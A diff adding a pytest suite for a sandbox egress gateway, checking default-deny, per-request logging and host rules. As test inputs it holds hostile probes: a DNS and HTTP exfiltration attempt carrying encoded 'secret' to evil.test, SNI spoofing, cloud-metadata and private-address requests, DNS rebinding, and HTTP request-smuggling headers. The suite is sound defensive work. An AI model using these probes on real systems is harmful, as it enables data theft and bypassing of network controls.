@@ -1,0 +1,311 @@
+"""Egress: denied by default, one door, every request on record. Servers stand where a hole would show."""
+# lane: full
+# sanitized
+import json
+
+import pytest
+
+from world import DNS, FORBIDDEN, PUBLIC, PUBLIC6
+
+POLICY = f"""
+version = 1
+task = "egress"
+[network]
+resolvers = ["{DNS}"]
+[[egress]]
+host = "api.test"
+ports = [443]
+methods = ["GET", "POST"]
+paths = ["/v1/**", "/echo"]
+[[egress]]
+host = "tunnel.test"
+[[egress]]
+host = "*.cdn.test"
+[[egress]]
+host = "plain.test"
+ports = [80]
+methods = ["GET"]
+[[egress]]
+host = "rebind.test"
+ports = [80]
+methods = ["GET"]
+[[egress]]
+host = "mixed.test"
+ports = [80]
+methods = ["GET"]
+[[egress]]
+host = "inner.test"
+ports = [80]
+methods = ["GET"]
+[[egress]]
+host = "six.test"
+ports = [80]
+methods = ["GET"]
+[[egress]]
+name = "raw"
+tcp = "raw.test:7000"
+[[egress]]
+name = "lan"
+cidr = "10.9.9.0/24"
+ports = [8080]
+"""
+
+
+@pytest.fixture(scope="module")
+def net(world):
+    world.web = world.https(["api.test", "tunnel.test", "a.cdn.test", "evil.test", "b.a.cdn.test", "cdn.test"])
+    world.plain = world.http("plain.test", address=PUBLIC[1])
+    world.second = world.http("second.test", address=PUBLIC[2])
+    world.raw = world.tcp(PUBLIC[3], 7000, after_end=1 << 20)
+    world.lan = world.http("lan.test", address="10.9.9.9", port=8080)
+    world.six = world.http("six.test", address=PUBLIC6[0])
+    world.zone.update({"raw.test": [PUBLIC[3]], "rebind.test": [[PUBLIC[1]], ["169.254.169.254"], ["127.0.0.1"]],
+                       "mixed.test": [PUBLIC[1], "10.9.9.9"], "inner.test": ["10.9.9.9"],
+                       "six.test": PUBLIC6, "mapped.test": ["::ffff:10.9.9.9"], "lan.test": ["10.9.9.9"]})
+    world.names()
+    world.traps = [world.http(f"trap{i}.test", address=address) for i, address in enumerate(FORBIDDEN)]
+    world.box = world.cerco()
+    return world
+
+
+def run(net, script, policy=POLICY, **kwargs):
+    return net.box.run("--", "sh", "-c", script, policy=policy, **kwargs)
+
+
+CURL = "curl -sS -m 20 -o /dev/null -w '%{http_code}\\n'"
+
+
+def test_an_allowed_request_is_answered_and_on_record(net):
+    net.web.clear()
+    result = run(net, f"{CURL} https://api.test/v1/me")
+    assert result.out == b"200\n", result
+    assert [e["path"] for e in net.web.entries() if e["event"] == "request"] == ["/v1/me"]
+    decisions = result.of_type("egress.decision")
+    assert [(d["verdict"], d["host"], d["port"], d["method"]) for d in decisions] == [("allow", "api.test", 443, "GET")]
+    ended = result.of_type("egress.ended")
+    assert [e["of"] for e in ended] == [decisions[0]["id"]] and ended[0]["status"] == 200
+
+
+@pytest.mark.parametrize("client", [
+    "curl -sS https://api.test/echo",
+    "python3 -c 'import urllib.request; print(urllib.request.urlopen(\"https://api.test/echo\").read().decode())'",
+    "python3 -c 'import requests; print(requests.get(\"https://api.test/echo\").text)'",
+    "node -e 'fetch(\"https://api.test/echo\").then(r => r.text()).then(console.log)'",
+])
+def test_the_runs_own_authority_is_trusted_without_set_up(net, client):
+    """F36: curl, Python and Node."""
+    result = run(net, client)
+    assert result.status == 0 and json.loads(result.text)["path"] == "/echo", result
+
+
+def test_a_tunnel_is_opaque_and_checked_by_its_name(net):
+    """N51, N52, N56, N57: SNI must be the name that was connected to."""
+    good = run(net, f"curl -sSk -o /dev/null -w '%{{http_code}}\\n' https://tunnel.test/any; openssl s_client -connect tunnel.test:443 </dev/null 2>/dev/null | grep -c 'small internet root'")
+    assert good.text.splitlines()[0] == "200", good
+    assert good.text.splitlines()[1] != "0", "the server's own certificate is seen: nothing was terminated"
+    net.web.clear()
+    other = run(net, "curl -sSk -m 10 --connect-to evil.test:443:tunnel.test:443 https://evil.test/; echo $?")
+    assert other.text.strip() != "0"
+    assert [e for e in net.web.entries() if e["event"] == "sni"] == []
+    none = run(net, "echo | openssl s_client -noservername -connect tunnel.test:443 2>&1 | grep -c BEGIN.CERT")
+    assert none.text.strip() == "0", none
+    raw = run(net, "printf 'SSH-2.0-x\\r\\n' | timeout 10 nc tunnel.test 443 | wc -c")
+    assert raw.text.strip() == "0" and not [e for e in net.web.entries() if e["event"] in ("sni", "connection")], raw
+    refused = [d for d in other.of_type("egress.decision") if d["verdict"] != "allow"]
+    assert len(refused) == 1 and refused[0]["reason"], other.events
+    open_ = run(net, "curl -sSk -m 10 --connect-to evil.test:443:tunnel.test:443 https://evil.test/ >/dev/null; echo $?",
+                without=["sni_check"])
+    assert open_.text.strip() == "0", "without the check the other name passes"
+
+
+def test_wildcards_are_one_label(net):
+    """N31, N32, N34."""
+    script = "for h in a.cdn.test cdn.test b.a.cdn.test evil-cdn.test; do getent ahostsv4 $h >/dev/null && echo yes $h || echo no $h; done"
+    assert run(net, script).text.splitlines() == ["yes a.cdn.test", "no cdn.test", "no b.a.cdn.test", "no evil-cdn.test"]
+
+
+def test_a_name_that_is_not_allowed_is_never_asked_for(net):
+    """F1, N89, N91: no query leaves, so none can carry data; the control shows the query without the filter."""
+    net.dns.clear()
+    result = run(net, "getent hosts c2VjcmV0.evil.test; curl -sS -m 5 http://c2VjcmV0.evil.test/; dig +short +time=2 +tries=1 TXT data.evil.test; true")
+    assert net.dns.entries() == []
+    assert any(r["host"] == "c2vjcmv0.evil.test" and r["kind"] == "host" for r in result.report["refused"]), result.report
+    assert "c2vjcmv0.evil.test" in result.error, "the block on standard error names it"
+    assert [d for d in result.of_type("dns.decision") if d["verdict"] == "deny"]
+    net.names(records={"c2vjcmv0.evil.test": [PUBLIC[0]]})
+    run(net, "curl -sS -m 5 http://c2vjcmv0.evil.test/", without=["name_filter"])
+    assert [e["name"] for e in net.dns.entries()], "without the filter the name leaves"
+
+
+def test_only_addresses_are_answered(net):
+    """N90, N92: TXT, MX, HTTPS, ANY of an allowed name give nothing; any server's address is ours."""
+    net.dns.clear()
+    script = ("for t in TXT MX TYPE65 SRV; do dig +noall +answer +time=3 +tries=1 $t api.test; done; dig +short @8.8.8.8 api.test;"
+              " dig +tcp +short api.test; dig +short @185.12.64.53 evil.test; dig +noall +comments evil.test | grep -o NXDOMAIN")
+    lines = run(net, script).text.split()
+    assert len(lines) == 3 and lines[0] == lines[1] and lines[2] == "NXDOMAIN", lines
+    assert net.dns.entries() == []
+
+
+@pytest.mark.parametrize("target", [
+    "169.254.169.254", "10.9.9.9", "172.16.5.5", "192.168.77.7", "100.100.100.200", "168.63.129.16", "[::ffff:10.9.9.9]",
+    "[::ffff:169.254.169.254]", "[64:ff9b::a09:909]", "[2002:a09:909::1]", "[fd00:ec2::254]", "[fe80::1]", "198.51.7.2", "198.51.7.1",
+    "[2a01:4f8:0:7::2]", "93.184.216.35", "224.0.0.1", "255.255.255.255", "1.1.1.1",
+])
+def test_literal_addresses_are_refused_in_the_kernel(net, target):
+    """N1, N16-N30, E80, E81, F8, F17: a true refusal, with nothing on the other side."""
+    for trap in (*net.traps, net.plain, net.lan):
+        trap.clear()
+    result = run(net, f"curl -sS -g -m 10 http://{target}/ ; echo $?")
+    assert result.text.strip() != "0", result
+    assert all(trap.entries() == [] for trap in (*net.traps, net.plain, net.lan))
+    decisions = [d for d in result.of_type("egress.decision") if d["verdict"] == "deny"]
+    if target not in ("224.0.0.1", "255.255.255.255"):  # these cannot be connected to at all
+        assert decisions, result.events
+        assert result.report["refused"], result.report
+
+
+@pytest.mark.parametrize("name", ["inner.test", "mixed.test", "rebind.test"])
+def test_what_a_name_resolves_to_is_judged(net, name):
+    """N46, N79-N85, F7: private answers are never dialled; a rebinding name only ever at an address that passed."""
+    for trap in (*net.traps, net.lan):
+        trap.clear()
+    result = run(net, f"for i in 1 2 3; do {CURL} http://{name}/; done")
+    assert net.lan.entries() == [] and all(trap.entries() == [] for trap in net.traps)
+    codes = result.text.split()
+    if name == "inner.test":
+        assert "200" not in codes, result
+        assert any(d["reason"] for d in result.of_type("egress.decision") if d["verdict"] == "deny")
+    if name == "mixed.test":
+        assert codes == ["200"] * 3, result
+    if name == "rebind.test":
+        assert codes[0] == "200" and codes[1:] == ["403", "403"] or "200" not in codes[1:], result
+
+
+def test_without_the_guard_the_private_address_is_reached(net):
+    net.names(records={"inner80.test": ["192.168.77.7"]})
+    policy = POLICY + '[[egress]]\nhost = "inner80.test"\nports = [80]\nmethods = ["GET"]\n'
+    assert run(net, f"{CURL} http://inner80.test/", policy=policy).text.strip() != "200"
+    assert run(net, f"{CURL} http://inner80.test/", policy=policy, without=["address_guard"]).text.strip() == "200"
+
+
+def test_without_the_capture_rules_a_connect_is_not_refused_by_the_kernel(net):
+    """The control of the kernel's refusals: with all steered to the gateway's socket, the connect itself succeeds or hangs there."""
+    script = "python3 - <<'X'\nimport socket\ns = socket.socket(); s.settimeout(5)\ntry:\n    s.connect(('10.9.9.9', 81)); print('connected')\nexcept OSError as e:\n    print(type(e).__name__)\nX"
+    assert run(net, script).text.strip() == "ConnectionRefusedError"
+
+
+def test_plain_http_is_judged_request_by_request(net):
+    """N69, N106, F20, F24: ten requests on one kept connection are ten decisions; HEAD follows GET; POST is refused."""
+    net.plain.clear()
+    script = ("python3 - <<'X'\nimport http.client\nc = http.client.HTTPConnection('plain.test')\nfor i in range(10):\n"
+              "    c.request('GET', f'/n{i}'); r = c.getresponse(); r.read(); print(r.status, end=' ')\n"
+              "c.request('HEAD', '/h'); r = c.getresponse(); r.read(); print(r.status)\n"
+              "c.request('POST', '/p', body='x'); r = c.getresponse(); print(r.status, r.headers['X-Cerco-Deny'], r.read().decode())\nX")
+    result = run(net, script)
+    first, second = result.text.splitlines()[:2]
+    assert first.split() == ["200"] * 11, result
+    status, reason, body = second.split(" ", 2)
+    answer = json.loads(body)
+    assert status == "403" and reason == answer["reason"] and answer["method"] == "POST" and answer["host"] == "plain.test"
+    assert "methods" in answer["fix"]
+    allowed = [d for d in result.of_type("egress.decision") if d["verdict"] == "allow"]
+    assert len(allowed) == 11 and len({d["conn"] for d in allowed}) == 1
+    assert [e["method"] for e in net.plain.entries() if e["event"] == "request"] == ["GET"] * 10 + ["HEAD"]
+
+
+@pytest.mark.parametrize("head, status", [
+    ("GET / HTTP/1.1\\r\\nHost: second.test\\r\\n\\r\\n", "421"),                       # another host
+    ("GET / HTTP/1.1\\r\\n\\r\\n", "400"),                                              # N109: none
+    ("GET / HTTP/1.1\\r\\nHost: plain.test\\r\\nHost: plain.test\\r\\n\\r\\n", "400"),      # N109: two
+    ("GET http://second.test/ HTTP/1.1\\r\\nHost: plain.test\\r\\n\\r\\n", "400"),         # N69
+    ("POST / HTTP/1.1\\r\\nHost: plain.test\\r\\nContent-Length: 1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n", "400"),  # N97
+    ("GET / HTTP/1.1\\r\\nHost: plain.test\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n", "400"),  # N99
+    ("GET / HTTP/1.1\\r\\nHost: plain.test\\r\\nA: b\\r\\n c\\r\\n\\r\\n", "400"),           # N101
+    ("GET / HTTP/1.1\\nHost: plain.test\\n\\n", "400"),                               # N102
+    ("GET /a/../b HTTP/1.1\\r\\nHost: plain.test\\r\\n\\r\\n", "400"),                     # F21
+    ("GET /x%00 HTTP/1.1\\r\\nHost: plain.test\\r\\n\\r\\n", "400"),                       # N119
+    ("TRACE / HTTP/1.1\\r\\nHost: plain.test\\r\\n\\r\\n", "405"),                         # N120
+    ("PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n", "400"),                                    # N116, F23
+])
+def test_what_could_be_read_two_ways_is_rejected(net, head, status):
+    net.plain.clear()
+    result = run(net, f"printf '{head}' | timeout 10 nc -q 3 plain.test 80 | head -n 1 | tr -d '\\r'")
+    assert result.text.split()[1:2] == [status], result
+    assert not [e for e in net.plain.entries() if e["event"] == "request"]
+    assert len([d for d in result.of_type("egress.decision") if d["verdict"] != "allow"]) == 1, "F104: one decision"
+
+
+def test_raw_tcp_and_half_close(net):
+    """F33, N124: by a tcp rule; the client's end is passed on and all bytes after it arrive."""
+    script = "python3 - <<'X'\nimport socket\ns = socket.create_connection(('raw.test', 7000)); s.sendall(b'hi'); s.shutdown(socket.SHUT_WR)\nn = 0\nwhile d := s.recv(65536): n += len(d)\nprint(n)\nX"
+    result = run(net, script)
+    assert result.text.strip() == str(2 + (1 << 20)), result
+    assert [(d["way"], d["rule"]) for d in result.of_type("egress.decision")] == [("tcp", "raw")]
+
+
+def test_a_cidr_rule_opens_what_it_says(net):
+    net.lan.clear()
+    assert run(net, f"{CURL} http://10.9.9.9:8080/").text.strip() == "200"
+    assert run(net, f"{CURL} -m 5 http://10.9.9.9:81/").text.strip() != "200"
+    net.lan.clear()
+    assert run(net, f"{CURL} -m 5 http://10.9.10.9:8080/").text.strip() != "200"
+    assert net.lan.entries() == []
+
+
+def test_ipv6_upstream(net):
+    assert run(net, f"{CURL} http://six.test/").text.strip() == "200"
+
+
+def test_other_datagrams_and_icmp_are_refused_at_once(net):
+    """N140-N142, F4: QUIC, NTP, ICMP, raw sockets."""
+    trap = net.serve("udp", {"address": PUBLIC[0], "port": 443})
+    script = ("python3 - <<'X'\nimport socket\nfor port in (443, 123, 53000):\n    s = socket.socket(type=socket.SOCK_DGRAM); s.settimeout(10)\n    s.connect(('93.184.216.34', port)); s.send(b'x')\n"
+              "    try:\n        s.recv(10); print('answer')\n    except OSError as e:\n        print(type(e).__name__)\n"
+              "try:\n    socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\nexcept OSError as e:\n    print(type(e).__name__)\nX")
+    result = run(net, script)
+    assert result.text.split() == ["ConnectionRefusedError"] * 3 + ["PermissionError"] or \
+        result.text.split()[:3] == ["ConnectionRefusedError"] * 3, result
+    assert trap.entries() == []
+
+
+def test_servers_inside_are_left_alone(net):
+    """F27: loopback inside, own address, ports below 1024, all by themselves; nothing of it is recorded as egress."""
+    script = ("python3 -m http.server 80 --bind 0.0.0.0 >/dev/null 2>&1 & for i in $(seq 100); do curl -s -o /dev/null http://127.0.0.1/ && break; sleep 0.1; done;"
+              f" {CURL} http://127.0.0.1/; {CURL} http://localhost/; {CURL} http://$(hostname -i | cut -d' ' -f1)/ ")
+    result = run(net, script)
+    assert result.text.split()[:2] == ["200", "200"], result
+    assert result.of_type("egress.decision") == []
+
+
+def test_no_network_at_all_by_default(net):
+    """F32: only lo, every connect fails, and a sandbox that never speaks costs no gateway."""
+    result = net.box.run("--", "sh", "-c", "ls /sys/class/net 2>/dev/null; cat /proc/net/dev | tail -n +3 | cut -d: -f1; getent hosts api.test || echo none")
+    assert result.text.split() == ["lo", "none"], result
+
+
+def test_the_gateway_dead_is_a_refusal_and_not_a_hang(net):
+    script = "echo up; read line; curl -sS -m 20 https://api.test/v1/me; echo $?; getent ahostsv4 api.test || echo none"
+    import os, signal, subprocess
+    from cerco import GUARD, wait_until
+    path = net.folder / "dead.toml"
+    path.write_text(POLICY)
+    process = net.box.start("run", "--policy", str(path), "--", "sh", "-c", script, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE)
+    assert process.stdout.readline() == b"up\n"
+
+    def gateway():
+        for entry in os.listdir("/proc"):
+            if entry.isdigit():
+                try:
+                    status = open(f"/proc/{entry}/status").read()
+                except OSError:
+                    continue
+                if "cerco-gateway" in status.splitlines()[0]:
+                    return int(entry)
+        return None
+    os.kill(wait_until(gateway, what="the gateway"), signal.SIGKILL)
+    wait_until(lambda: gateway() is None)
+    out, err = process.communicate(b"go\n", timeout=GUARD)
+    lines = out.decode().split()
+    assert lines[0] != "0" and lines[-1] == "none", (out, err)
